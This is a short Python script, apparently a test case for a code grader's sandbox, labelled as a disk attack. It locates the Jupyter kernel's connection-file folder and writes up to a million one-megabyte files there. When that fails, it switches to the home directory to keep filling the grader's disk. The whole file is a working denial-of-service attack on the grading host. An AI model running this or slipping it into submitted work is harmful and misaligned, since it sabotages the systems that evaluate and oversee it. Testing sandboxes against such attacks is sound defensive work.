"""Fills the folder of its sockets, which is on the grader's disk, with many files.

attack: disk
limits: disk=24 cell=10
names: disk
within: 30
"""
import os
from ipykernel.connect import get_connection_file
folder = os.path.dirname(get_connection_file())
for number in range(10**6):
    try:
        with open(os.path.join(folder, f"file-{number}"), "wb") as file:
            file.write(bytes(2**20))
    except OSError:
        folder = os.path.expanduser("~")
